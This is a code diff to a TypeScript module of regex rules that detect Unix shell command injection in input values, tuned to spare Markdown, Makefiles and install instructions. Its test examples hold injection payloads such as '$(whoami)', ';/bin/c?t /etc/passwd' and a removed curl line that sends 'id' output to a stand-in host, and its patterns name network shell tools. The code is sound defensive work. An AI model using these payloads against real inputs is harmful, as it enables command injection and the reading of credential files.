@@ -6,11 +6,15 @@
  * syntax after it ("Tom & Jerry; cat food" is prose, "x; cat /etc/passwd" is not).
  */
 import type { ValueRule } from "../types.ts";
-import { NAME_START, SP0, SP1, WS, WS0, WS1 } from "./injection-fragments.ts";
+import { NAME_START, SP0, SP1, WS0, WS1 } from "./injection-fragments.ts";
 
 const BT = "`";
-/** What ends one shell command and starts the next: `;`, `|`, `||`, `&`, `&&`, a line break, `` ` ``, `$(`. */
-const SEPARATOR = `(?:[;|&\\n\\r${BT}]|\\$\\()`;
+/**
+ * What ends one shell command and starts the next: `;`, `|`, `||`, `&`, `&&`, a line break, `$(`,
+ * and a backtick glued to a word (`` x`id` ``). A backtick after a space is Markdown inline code
+ * ("run `ls -la`", "output of `uname -a`"), which UNIXCMD_BACKTICK catches at Strict.
+ */
+const SEPARATOR = `(?:[;|&\\n\\r]|\\$\\(|[a-z0-9=]${BT})`;
 /** An optional /bin/, /usr/bin/, /usr/local/sbin/... before a command name. */
 const BIN_DIR = "(?:/(?:usr/)?(?:local/)?s?bin/)?";
 /** Commands whose name is also a word: caught only with argument syntax after them. */
@@ -19,9 +23,10 @@ const COMMAND =
 /** Commands that need no argument to be recognised: nobody writes "; whoami" in prose. */
 const BARE_COMMAND = "(?:whoami|uname|ifconfig|netstat|printenv|pwd|ls)";
 /** What follows a command: an option, a path, a variable, a quote, a redirection or a pipe. */
-const ARGUMENTS = `(?:${SP1}(?:-{1,2}[a-z0-9]|[/~$'"<>|&;]|\\.{1,2}/|[0-9]+${SP0}(?:$|[;|&${BT}#)]))|${SP0}[<>|]|\\$\\{?IFS)`;
+// a pipe or & after a space is a Markdown table cell ("| Python |") or prose ("cat & dog")
+const ARGUMENTS = `(?:${SP1}(?:-{1,2}[a-z0-9]|[/~$'"<>]|\\.{1,2}/|[0-9]+${SP0}(?:$|[;|&${BT}#)]))|${SP0}[<>]|\\||\\$\\{?IFS)`;
 /** The end of a bare command: the value's end, a separator, a comment or a closing substitution. */
-const COMMAND_END = `${SP0}(?:$|[;|&${BT}#)<>\\n\\r])`;
+const COMMAND_END = `(?:${SP0}(?:$|[;&${BT}#)<>\\n\\r])|\\|)`;
 /** Commands that reach other hosts, and a host or URL argument (x.example, 10.0.0.1, http://...). */
 const NETWORK_COMMAND = "(?:curl|wget|nc|ncat|netcat|ping|nslookup|dig|telnet|ssh|scp|tftp)";
 const HOST_ARGUMENT = `${SP1}(?:[a-z][a-z0-9+\\-\\.]*://|[a-z0-9\\-]+(?:\\.[a-z0-9\\-]+)+)`;
@@ -109,17 +114,17 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
     family: "UNIXCMD",
     level: "Basic",
     regex:
-      `\\$\\(${WS0}(?:(?:whoami|id|uname|hostname|pwd|ifconfig|printenv|env)(?:${WS}|\\))|(?:sleep|ping|nslookup|dig|curl|wget)${WS1}[^)]|cat${WS1}/|ls${WS0}[-/)])` +
-      `|${BT}${WS0}(?:whoami|uname${SP1}-a|ifconfig|(?:cat|head)${SP1}/etc/)`,
+      // $(pwd), $(id -u), $(uname -m) and $(curl ...) are everyday shell in install instructions
+      `(?:\\$\\(|[a-z0-9=]${BT})${WS0}(?:whoami${WS0}[)${BT}]|id${WS0}[)${BT}]|ifconfig|(?:sleep|ping|nslookup|dig)${WS1}[^)${BT}])`,
     description: "Command substitution ($(...) or backticks) of a command that reveals the host or waits",
     examples: [
       "$(whoami)",
       "x$(id)",
       "$(sleep 5)",
       "a`whoami`",
-      "`uname -a`",
-      "$(curl http://x.example/$(id))",
-      "$(ls /)",
+      "1`id`",
+      "$(nslookup x.example)",
+      "$( whoami )",
     ],
     benign: [
       "$(document).ready()",
@@ -127,6 +132,11 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
       "$('#id')",
       "$(identifier)",
       "Use `npm install` then run it",
+      "Output of `uname -a`:",
+      '-v "$(pwd)":/app',
+      'sh -c "$(curl -fsSL https://example.com/install.sh)"',
+      "--user $(id -u):$(id -g)",
+      "docker-compose-$(uname -s)-$(uname -m)",
     ],
   },
   // ------------------------------------------------------------------------------------- Standard
@@ -157,13 +167,17 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
       "The cat & the hat | echo chamber",
       "Cats & dogs; sleep well",
       "R&D; ps: see attached",
+      "| Python | JSON |",
+      "| ls | lists files |",
+      "Tom & Jerry; cat & dog",
     ],
   },
   {
     key: "UNIXCMD_SUBSTITUTION",
     family: "UNIXCMD",
     level: "Standard",
-    regex: `\\$\\(${WS0}(?:${SHELL_COMMAND}|${COMMAND}${WS0}\\))|[a-z0-9=]${BT}${WS0}(?:${SHELL_COMMAND}|${COMMAND}${WS0}${BT})`,
+    // bare $(cmd) only for id and env: $(RM) and $(CC) are Makefile variables
+    regex: `\\$\\(${WS0}(?:${SHELL_COMMAND}|(?:id|env)${WS0}\\))|[a-z0-9=]${BT}${WS0}(?:${SHELL_COMMAND}|(?:id|env)${WS0}${BT})`,
     description:
       "Command substitution of a shell command: $(cmd ...), or backticks glued to a value (x`cmd`)",
     examples: [
@@ -181,6 +195,7 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
       "(`echo`)",
       "**`ls -la`**",
       "command:`ls -la`",
+      "use $(RM) in Makefile",
     ],
   },
   {
@@ -210,14 +225,18 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
     key: "UNIXCMD_GLOB_EVASION",
     family: "UNIXCMD",
     level: "Standard",
-    regex: "/(?:[a-z]*[?*]+[a-z?*]*|bin|usr|etc)/[a-z]*[?*][a-z?*]*",
+    // a wildcard must stand inside a name (c?t, ??t), not end a sentence (/bin/ping?); ** is a
+    // recursive glob in build configurations (src/**/*.ts), not an evasion
+    regex: "/(?:[a-z]*\\?[a-z?]*|bin|usr|etc)/[a-z]*(?:\\?[a-z?]|\\*[a-z])",
     description: "A command or file written with wildcards to dodge filters (/???/c?t /e??/p?ss??)",
-    examples: ["/???/c?t /e??/p?ss??", ";/bin/c?t /etc/passwd", "/usr/*/who?mi", "/e*/shado?"],
+    examples: ["/???/c?t /e??/p?ss??", ";/bin/c?t /etc/passwd", "/usr/b?n/who?mi", "/e?c/sh?dow"],
     benign: [
       "https://www.example.com/search?q=cats&page=2",
       "/api/v1/items?*=1",
       "what?/who? / why?",
       "/a*b/c",
+      "lib/internal/**/*.js",
+      "how to remove the SUID bit from /bin/ping?",
     ],
   },
   {
